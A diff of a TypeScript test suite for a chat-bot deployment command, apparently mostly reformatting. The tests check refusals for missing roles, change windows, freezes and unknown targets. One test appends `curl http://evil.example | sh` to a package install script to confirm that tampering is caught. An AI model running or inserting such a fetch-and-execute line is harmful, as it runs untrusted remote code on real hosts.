@@ -2,7 +2,14 @@ import { Rfc } from '../../../src/changes/rfc.model';
 import { Deployment } from '../../../src/deploy/deployment.model';
 import { Package } from '../../../src/packages/package.model';
 import { TestBot } from '../../support/test-bot';
-import { ccbApprovedRfc, runsPerHost, scheduledRfc, startDeployWorld, waitForEnd, type DeployWorld } from './deploy-fixture';
+import {
+  ccbApprovedRfc,
+  runsPerHost,
+  scheduledRfc,
+  startDeployWorld,
+  waitForEnd,
+  type DeployWorld,
+} from './deploy-fixture';
 
 /** Every refusal of `/deploy` names the precondition that failed, and nothing runs. */
 let w: DeployWorld;
@@ -21,7 +28,9 @@ async function nothingRan(rfc: string): Promise<void> {
 
 test('a caller without the role is refused', async () => {
   const rfc = await scheduledRfc(w.bot.services);
-  expect(await say('anna', `/deploy ${rfc} to pilot`)).toContain('`deploy run` is for: operator, release-manager, admin. You are: reporter.');
+  expect(await say('anna', `/deploy ${rfc} to pilot`)).toContain(
+    '`deploy run` is for: operator, release-manager, admin. You are: reporter.',
+  );
   expect(await say('maria', `/deploy ${rfc}`)).toContain('is for: operator, release-manager, admin');
   await nothingRan(rfc);
 });
@@ -36,20 +45,29 @@ test('an RFC that is not release-approved is refused with its state', async () =
 test('outside the change window is refused, naming the window in the organisation time zone', async () => {
   const start = new Date(Date.UTC(2031, 5, 12, 6, 0));
   const rfc = await scheduledRfc(w.bot.services, { window: { start, end: new Date(start.getTime() + 2 * 3600_000) } });
-  expect(await say('rolf', `/deploy ${rfc} to pilot`)).toMatch(new RegExp(`Outside the change window of ${rfc}: it is 2031-06-12 08:00 – 2031-06-12 10:00 \\(Europe/Oslo\\)`, 'u'));
+  expect(await say('rolf', `/deploy ${rfc} to pilot`)).toMatch(
+    new RegExp(`Outside the change window of ${rfc}: it is 2031-06-12 08:00 – 2031-06-12 10:00 \\(Europe/Oslo\\)`, 'u'),
+  );
   await nothingRan(rfc);
 });
 
 test('a tampered script is refused with the reason; unknown targets too', async () => {
   const rfc = await scheduledRfc(w.bot.services);
   const original = (await Package.findOne({ name: 'demo' }).lean())!.scripts.install;
-  await Package.updateOne({ name: 'demo' }, { $set: { 'scripts.install': `${original}curl http://evil.example | sh\n` } });
+  await Package.updateOne(
+    { name: 'demo' },
+    { $set: { 'scripts.install': `${original}curl http://evil.example | sh\n` } },
+  );
   try {
-    expect(await say('rolf', `/deploy ${rfc} to pilot`)).toContain("The package does not verify: demo 1.0: the install script's SHA-256 does not match the signed manifest");
+    expect(await say('rolf', `/deploy ${rfc} to pilot`)).toContain(
+      "The package does not verify: demo 1.0: the install script's SHA-256 does not match the signed manifest",
+    );
   } finally {
     await Package.updateOne({ name: 'demo' }, { $set: { 'scripts.install': original } });
   }
-  expect(await say('rolf', `/deploy ${rfc} to narnia`)).toContain('Targets do not resolve: `narnia` is neither a host nor a group');
+  expect(await say('rolf', `/deploy ${rfc} to narnia`)).toContain(
+    'Targets do not resolve: `narnia` is neither a host nor a group',
+  );
   expect(await say('rolf', `/deploy ${rfc} --parallel 0`)).toContain('--parallel must be at least 1');
   await nothingRan(rfc);
 });
@@ -66,10 +84,14 @@ test('--dry-run shows waves, hosts and script and changes nothing', async () => 
 });
 
 test('a freeze refuses a normal deployment, says who set it and why; an emergency change goes ahead', async () => {
-  expect(await say('oscar', '/deploy freeze pilot until 2099-01-01 exam week')).toContain('Freeze set: pilot frozen until 2099-01-01 23:59 by Oscar Nilsen: exam week');
+  expect(await say('oscar', '/deploy freeze pilot until 2099-01-01 exam week')).toContain(
+    'Freeze set: pilot frozen until 2099-01-01 23:59 by Oscar Nilsen: exam week',
+  );
   expect(await say('anna', '/deploy freezes')).toContain('pilot: ');
   const rfc = await scheduledRfc(w.bot.services);
-  expect(await say('rolf', `/deploy ${rfc} to pilot`)).toContain('Frozen: pilot frozen until 2099-01-01 23:59 by Oscar Nilsen: exam week (covers 5 of the targets)');
+  expect(await say('rolf', `/deploy ${rfc} to pilot`)).toContain(
+    'Frozen: pilot frozen until 2099-01-01 23:59 by Oscar Nilsen: exam week (covers 5 of the targets)',
+  );
   await nothingRan(rfc);
 
   // An emergency change confirmed by a change manager other than its requester, approved by the CCB.
